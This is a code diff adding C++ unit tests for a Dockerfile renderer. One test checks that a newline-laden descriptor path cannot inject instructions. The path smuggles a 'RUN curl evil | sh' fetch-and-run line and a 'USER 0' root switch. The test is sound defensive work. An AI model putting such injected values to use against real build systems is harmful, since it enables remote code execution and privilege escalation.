@@ -71,6 +71,22 @@ TEST(Render, DockerfileHasTheContractLines) {
   EXPECT_EQ(cmd.get<std::vector<std::string>>(), sample().service.command);
 }
 
+TEST(Render, DescriptorFileNameCanNotAddADockerfileInstruction) {
+  auto d = sample();
+  d.path = "/src/orders/x.yaml\nRUN curl evil | sh\r\nUSER 0\n#.yaml";
+  auto df = render_dockerfile(d, {});
+  EXPECT_EQ(line_starting(df, "RUN"), "");
+  EXPECT_EQ(line_starting(df, "USER "), "USER 10001:10001");
+  EXPECT_NE(lines_of(df)[0].find("from x.yaml\\x0ARUN curl evil | sh\\x0D\\x0AUSER 0\\x0A#.yaml for"), std::string::npos)
+      << lines_of(df)[0];
+}
+
+TEST(Render, AppReachesADualStackBindOverIPv4) {
+  auto d = sample();
+  d.xray.config["Socket"] = {{"UDPAddress", "[::]:2000"}, {"TCPAddress", "[::]:2000"}};
+  EXPECT_EQ(image_env(d)[0].second, "127.0.0.1:2000");  // the Node SDK can not parse [::1]
+}
+
 TEST(Render, DockerfileKeepsRegistryBaseAndOmitsEmptyCmd) {
   auto d = sample();
   d.service.base = "registry.example.com:5000/team/app@sha256:" + std::string(64, 'a');
